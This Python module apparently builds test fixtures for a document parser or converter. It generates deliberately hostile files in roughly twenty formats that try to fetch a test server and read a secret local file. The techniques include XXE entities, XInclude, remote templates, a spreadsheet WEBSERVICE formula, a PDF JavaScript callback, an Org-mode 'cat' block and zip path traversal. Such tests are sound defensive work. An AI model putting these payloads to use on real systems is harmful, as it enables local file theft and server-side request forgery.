"""Documents that try to call home and to read files of the host, one of each format and way."""

import io
import zipfile
from collections.abc import Iterator

import docx
import openpyxl
import pptx
import seeds

WORDS = "An ordinary sentence stands in this document as well, so that it has a text."
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def spies(url: str, secret: str) -> Iterator[tuple[str, bytes]]:
    """Name and bytes of each.

    Args:
      url: of a server that must never be asked; without a slash at its end.
      secret: path of a file that must never be read.
    """
    entities = f'<!DOCTYPE {{root}} [<!ENTITY local SYSTEM "file://{secret}"><!ENTITY remote SYSTEM "{url}/entity">'
    entities += f'<!ENTITY % dtd SYSTEM "{url}/dtd"> %dtd;]>'
    html = (
        f'<link rel="stylesheet" href="{url}/css"><script src="{url}/js"></script><p>{WORDS}</p><img src="{url}/picture.png">'
        f'<img src="file://{secret}"><img src="{secret}"><iframe src="file://{secret}"></iframe><object data="{url}/object"></object>'
        f'<svg><image href="{url}/svg"/></svg><embed src="{url}/embed"><video src="{url}/video" poster="file://{secret}"></video>'
    )
    yield "page.html", f'<html><head><base href="{url}/"></head><body>{html}</body></html>'.encode()
    yield (
        "entities.html",
        f'<?xml version="1.0"?>{entities.format(root="html")}<html><body><p>{WORDS} &local;&remote;</p></body></html>'.encode(),
    )
    yield "text.md", f"# A\n\n{WORDS}\n\n![picture]({url}/picture.png) ![local](file://{secret})\n\n{html}\n".encode()
    yield "data.xml", f'<?xml version="1.0"?>{entities.format(root="a")}<a><b>{WORDS}</b><c>&local;</c><d>&remote;</d></a>'.encode()
    xinclude = f'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file://{secret}" parse="text"/>'
    style = f'<?xml-stylesheet href="{url}/xsl" type="text/xsl"?>'
    yield "included.xml", f'<?xml version="1.0"?>{style}<a><b>{WORDS}</b>{xinclude}</a>'.encode()
    names = 'xmlns="http://www.w3.org/2000/svg" xmlns:l="http://www.w3.org/1999/xlink"'
    svg = f'<svg {names}><image l:href="{url}/a"/><text>{WORDS} &local;</text></svg>'
    yield "drawing.svg", f'<?xml version="1.0"?>{entities.format(root="svg")}{svg}'.encode()
    yield (
        "text.rst",
        f"Title\n=====\n\n{WORDS}\n\n.. include:: {secret}\n\n.. literalinclude:: {secret}\n\n.. raw:: html\n   :file: {secret}\n\n"
        f".. raw:: html\n   :url: {url}/raw\n\n.. csv-table:: t\n   :file: {secret}\n\n.. csv-table:: u\n   :url: {url}/csv\n\n"
        f".. image:: {url}/picture.png\n\n.. figure:: {secret}\n".encode(),
    )
    yield (
        "text.org",
        f'#+TITLE: t\n#+SETUPFILE: {url}/setup\n* A\n{WORDS}\n#+INCLUDE: "{secret}"\n#+INCLUDE: "{secret}" src c\n[[file:{secret}]]\n'
        f"[[{url}/picture.png]]\n#+BEGIN_SRC sh :results output\ncat {secret}\n#+END_SRC\n".encode(),
    )
    yield (
        "text.rtf",
        (
            rf"{{\rtf1\ansi{{\*\template {url}/template}}{{\field{{\*\fldinst INCLUDEPICTURE {url}/picture.png}}{{\fldrslt x}}}}"
            rf'{{\field{{\*\fldinst INCLUDETEXT "{secret}"}}{{\fldrslt y}}}}{{\object\objautlink\objupdate{{\*\objclass Word.Document}}}}'
            rf"\pard {WORDS}\par}}"
        ).encode(),
    )
    yield (
        "mail.eml",
        f"From: a@example.org\nSubject: s\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/html\n\n"
        f'<html><body>{html}</body></html>\n--b\nContent-Type: message/external-body; access-type=URL; URL="{url}/body"\n\n'
        f'Content-Type: text/plain\n\n\n--b\nContent-Type: message/external-body; access-type=local-file; name="{secret}"\n\n'
        f'Content-Type: text/plain\n\n\n--b\nContent-Type: application/octet-stream; name="../../../../{secret}"\n'
        f"Content-Disposition: attachment\n\n{WORDS}\n--b--\n".encode(),
    )
    yield "mail.msg", seeds.msg(f"<html><body>{html}</body></html>")
    yield "linked.docx", _linked_docx(url, secret)
    yield "entities.docx", _with_entities(seeds.docx(), "word/document.xml", entities.format(root="w:document"), seeds.SENTENCE)
    yield "entities.pptx", _with_entities(seeds.pptx(), "ppt/slides/slide1.xml", entities.format(root="p:sld"), seeds.SENTENCE)
    yield "entities.xlsx", _with_entities(seeds.xlsx(), "xl/worksheets/sheet1.xml", entities.format(root="worksheet"), "Quarter")
    yield "properties.docx", _with_entities(seeds.docx(), "docProps/core.xml", entities.format(root="cp:coreProperties"), "python-docx")
    yield "linked.pptx", _linked_pptx(url, secret)
    yield "linked.xlsx", _linked_xlsx(url, secret)
    for name, make in (("entities.ods", seeds.ods), ("entities.odp", seeds.odp)):
        yield name, _with_entities(make(), "content.xml", entities.format(root="office:document-content"), seeds.SENTENCE)
    yield "entities.odt", _with_entities(odt(""), "content.xml", entities.format(root="office:document-content"), WORDS)
    yield "linked.odt", odt(linked_frame(url) + linked_frame(f"file://{secret}") + linked_frame(f"../../../../..{secret}"))
    yield "book.epub", _epub(url, secret, entities.format(root="html"))
    yield "file.pdf", _pdf(url, secret)


def odt(frames: str) -> bytes:
    return seeds.open_document(
        "application/vnd.oasis.opendocument.text",
        f'<office:text><text:p>{WORDS}</text:p><text:p xmlns:l="http://www.w3.org/1999/xlink">{frames}</text:p></office:text>',
    )


def linked_frame(address: str) -> str:
    return f'<draw:frame><draw:image l:href="{address}" l:type="simple" l:show="embed" l:actuate="onLoad"/></draw:frame>'


def _rewritten(data: bytes, **members: bytes) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            target.writestr(name, members.pop(name, None) or source.read(name))
        for name, content in members.items():
            target.writestr(name, content)
    return stream.getvalue()


def _with_entities(data: bytes, member: str, declaration: str, before: str) -> bytes:
    """The document with entities declared in a member, and used before a word of its text."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        text = archive.read(member).decode()
    assert before in text
    head, mark, rest = text.partition("?>") if text.startswith("<?xml") else ("", "", text)
    return _rewritten(data, **{member: f"{head}{mark}{declaration}{rest.replace(before, f'&local;&remote;{before}')}".encode()})


def _linked_docx(url: str, secret: str) -> bytes:
    document = docx.Document()
    document.add_paragraph(WORDS)
    relate = document.part.relate_to
    picture = relate(f"{url}/picture.png", f"{OFFICE_RELATION}/image", is_external=True)
    local = relate(f"file://{secret}", f"{OFFICE_RELATION}/image", is_external=True)
    relate(f"{url}/chunk", f"{OFFICE_RELATION}/aFChunk", is_external=True)
    document.part._settings_part.relate_to(f"{url}/template.dotm", f"{OFFICE_RELATION}/attachedTemplate", is_external=True)
    for identifier in (picture, local):
        run = document.add_paragraph().add_run()
        run.add_picture(io.BytesIO(seeds.picture("PNG")))
        blip = run._r.xpath(".//a:blip")[0]
        for name in list(blip.attrib):
            del blip.attrib[name]
        blip.set(f"{{{OFFICE_RELATION}}}link", identifier)
        blip.set(f"{{{OFFICE_RELATION}}}embed", identifier)
    return seeds.saved(document)


def _linked_pptx(url: str, secret: str) -> bytes:
    presentation = pptx.Presentation(io.BytesIO(seeds.pptx()))
    slide = presentation.slides[0]
    for address in (f"{url}/picture.png", f"file://{secret}"):
        identifier = slide.part.relate_to(address, f"{OFFICE_RELATION}/image", is_external=True)
        shape = slide.shapes.add_picture(io.BytesIO(seeds.picture("PNG")), 0, 0)
        shape._element.xpath(".//a:blip")[0].set(f"{{{OFFICE_RELATION}}}embed", identifier)
    return seeds.saved(presentation)


def _linked_xlsx(url: str, secret: str) -> bytes:
    workbook = openpyxl.Workbook()
    workbook.active.append([WORDS, f'=WEBSERVICE("{url}/service")', f"='file://{secret}'#$a.A1", f'=HYPERLINK("{url}/link")'])
    workbook.active["A1"].hyperlink = f"{url}/hyperlink"
    return seeds.saved(workbook)


def _epub(url: str, secret: str, entities: str) -> bytes:
    stream = io.BytesIO()
    chapter = (
        f'<?xml version="1.0"?>{entities}<html xmlns="http://www.w3.org/1999/xhtml"><head><link rel="stylesheet" href="{url}/css"/></head>'
        f'<body><h1>A</h1><p>{WORDS}</p><img src="{url}/picture.png"/><img src="file://{secret}"/><img src="../../../..{secret}"/></body>'
        "</html>"
    )
    package = (
        '<package xmlns="http://www.idpf.org/2007/opf" version="3.0"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>t</dc:title>'
        '</metadata><manifest><item id="a" href="a.xhtml" media-type="application/xhtml+xml"/>'
        f'<item id="b" href="../../../../..{secret}" media-type="application/xhtml+xml"/>'
        f'<item id="c" href="{url}/remote.xhtml" media-type="application/xhtml+xml"/></manifest>'
        '<spine><itemref idref="a"/></spine></package>'
    )
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("mimetype", "application/epub+zip")
        archive.writestr(
            "META-INF/container.xml",
            '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container" version="1.0"><rootfiles><rootfile full-path="content.opf" '
            'media-type="application/oebps-package+xml"/></rootfiles></container>',
        )
        archive.writestr("content.opf", package)
        archive.writestr("a.xhtml", chapter)
        archive.writestr("../../escaped", "x")
    return stream.getvalue()


def _pdf(url: str, secret: str) -> bytes:
    import pikepdf

    with pikepdf.open(io.BytesIO(seeds.pdf())) as document:
        page = document.pages[0]
        outside = document.make_stream(b"")
        outside.F = pikepdf.String(secret)
        page.Resources.XObject = pikepdf.Dictionary(
            X=pikepdf.Stream(document, b"", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image, Width=9, Height=9, F=secret)
        )
        page.Contents = pikepdf.Array([page.Contents, outside, document.make_stream(b"q 90 0 0 90 9 9 cm /X Do Q")])
        document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=f"{url}/open")
        document.Root.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=f"this.getURL('{url}/js')"))
        page.Annots = pikepdf.Array(
            [
                document.make_indirect(
                    pikepdf.Dictionary(
                        Type=pikepdf.Name.Annot,
                        Subtype=pikepdf.Name.Link,
                        Rect=[0, 0, 9, 9],
                        A=pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.Dictionary(FS=pikepdf.Name.URL, F=f"{url}/other.pdf")),
                    )
                )
            ]
        )
        return seeds.saved(document)
